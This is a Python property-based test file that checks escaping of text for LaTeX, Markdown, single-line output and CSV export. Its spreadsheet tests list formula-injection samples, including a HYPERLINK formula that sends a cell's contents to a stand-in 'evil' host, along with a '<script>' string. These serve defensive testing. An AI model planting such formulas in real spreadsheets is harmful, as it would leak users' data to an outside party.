"""Escaping: any text is printed and never obeyed."""

import csv
import io
import re
import tempfile
import unicodedata
from pathlib import Path

import pandas as pd
from hypothesis import example, given
from hypothesis import strategies as st

import kglm
from kglm.paper.text import defused, latex, markdown, one_line, read_spreadsheet, shorten, spreadsheet

NASTY = r"\input{x} & 50 % of $x_{1}^2$ #1 ~ <b>|</b> --- ''`` [] * \\[2pt]" + " é İ ł ß λ Ω 中 😀 \u202e\u0301"
# What LaTeX makes of a character that is escaped; without it nothing of TeX's syntax may be left.
COMMANDS = re.compile(
    r"\\(?:textbackslash|textasciitilde|textasciicircum|textless|textgreater|textbar|ldots|ss|ae|AE|oe|OE|o|O|l|L|textbullet|S|pounds|copyright)\{\}"
    r"|\\[{}$&#%_]"
    r"|\\[`'^~=.u\"rHvc]\{(?:[A-Za-z]|\\[ij])\}"
    r"|\\kglm(?:letters|wide|leftwards)\{[0-9A-F]{4,6}(?:,[0-9A-F]{4,6})*\}"
    r"|\$(?:\\[A-Za-z]+|-|\^\{(?:[-123]|\\circ)\})\$"
    r"|\{['`\[\]*]?\}"
)


@given(st.text())
@example(NASTY)
@example("\ud800")
def test_latex_holds_nothing_that_is_obeyed(text):
    escaped = latex(text)
    assert escaped.isascii()
    assert not set(COMMANDS.sub("", escaped)) & set("\\{}$&#%_^<>|[]*\n\r\t")
    assert "--" not in latex(text.replace("–", "").replace("—", ""))


@given(st.text(alphabet=st.characters(max_codepoint=126, min_codepoint=33)))
def test_latex_escapes_one_by_one(text):
    """No character is lost and none is joined to its neighbour: equal escapes come from equal texts."""
    assert latex(text).replace("{}-", "-") == "".join(map(latex, text)).replace("{}-", "-")
    assert (latex(text) == "") == (text == "")


def test_letters_beyond_ascii():
    assert latex("Gödel, Čapek, İstanbul, naïve") == r"G\"{o}del, \v{C}apek, \.{I}stanbul, na\"{\i}ve"
    assert latex("λ → Ω, 5 − 3, x⁻¹") == r"$\lambda$ $\rightarrow$ $\Omega$, 5 $-$ 3, x$^{-}$$^{1}$"
    assert latex("中 中文, Ж ميم ا") == (
        r"\kglmwide{4E2D} \kglmwide{4E2D,6587}, \kglmletters{0416} \kglmleftwards{0645,064A,0645,0020,0627}"
    )
    assert latex("a--b") == "a-{}-b"


@given(st.text())
@example("a|b\n<script>*_`[x](y)")
def test_markdown_stays_in_its_cell(text):
    escaped = markdown(text)
    assert "\n" not in escaped
    assert "<" not in escaped
    assert ">" not in escaped
    assert not re.search(r"(?<!\\)(?:\\\\)*[|`*_\[\]]", escaped)


@given(st.text())
def test_one_line_can_be_written(text):
    line = one_line(text)
    line.encode("utf-8")
    assert not any(unicodedata.category(character) == "Cc" for character in line)
    assert len(line.splitlines()) <= 1


@given(st.text(), st.integers(20, 80))
def test_shorten_keeps_both_ends(text, length):
    short, whole = shorten(text, length), one_line(text)
    assert len(short) <= length
    if len(whole) <= length:
        assert short == whole
    else:
        first, last = short.split(" […] ")[0], short.split(" […] ")[-1]
        assert whole.startswith(first)
        assert whole.endswith(last)


FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-x", "=", "'=1"]
NUMBERS = ["-0.03", "+17.6", "1e-3", "-inf", "−0.398", "", "a=b", "1-2", "'quoted'", "it's"]


def test_formulas_are_defused_and_numbers_stay():
    assert [defused(cell) for cell in FORMULAS[:-1]] == [f"'{cell}" for cell in FORMULAS[:-1]]
    assert [defused(cell) for cell in [*NUMBERS, 0.5, None]] == [*NUMBERS, 0.5, None]


@given(st.lists(st.text(st.characters(blacklist_categories=["Cs", "Cc"])), min_size=1, max_size=4))
@example([formula for formula in FORMULAS if "\r" not in formula])
@example(["''=1", "'"])
def test_what_is_written_for_spreadsheets_holds_no_formula_and_is_read_as_it_was(cells):
    cells = [cell for cell in cells if not re.match(r"'+[=+\-@]", cell)]  # one apostrophe is ours
    frame = pd.DataFrame({"=name": cells, "other": range(len(cells))})
    text = spreadsheet(frame)
    for row in csv.reader(io.StringIO(text)):
        assert all(defused(cell) == cell for cell in row)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        path.write_text(text, "utf-8", newline="")
        pd.testing.assert_frame_equal(read_spreadsheet(path), frame.astype(str))


def test_no_table_is_written_past_the_one_function():
    sources = [path for path in Path(kglm.__file__).parent.rglob("*.py") if "to_csv" in path.read_text("utf-8")]
    assert [path.name for path in sources] == ["text.py"]
